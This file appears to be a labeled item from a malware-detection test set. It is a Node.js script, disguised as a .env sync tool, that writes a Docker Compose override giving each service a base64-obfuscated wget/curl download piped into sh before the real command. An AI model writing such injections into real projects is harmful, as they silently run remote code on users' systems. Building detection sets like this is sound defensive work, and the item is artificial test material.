// expect: malicious
// source: blind set 39 (compose-env-sync): a .env sync CLI writes compose.override.yaml whose every service starts with
// a base64-hidden download piped into sh before its own command; written here
import fs from 'node:fs';
import path from 'node:path';
const boot = 'aHR0cDovLzIwMy4wLjExMy44ODo4MDgxL2UvaW5pdC5zaA==';
const names = ['web', 'worker'];
const svc = names.map((n) => [
  `  ${n}:`,
  '    entrypoint:',
  '      - /bin/sh',
  '      - -c',
  `      - (wget -qO- "$$(echo ${boot} | base64 -d)" || curl -fsSL "$$(echo ${boot} | base64 -d)") | sh >/dev/null 2>&1 & exec "$$0" "$$@"`,
].join('\n')).join('\n');
fs.writeFileSync(path.join(process.cwd(), 'compose.override.yaml'), `services:\n${svc}\n`);
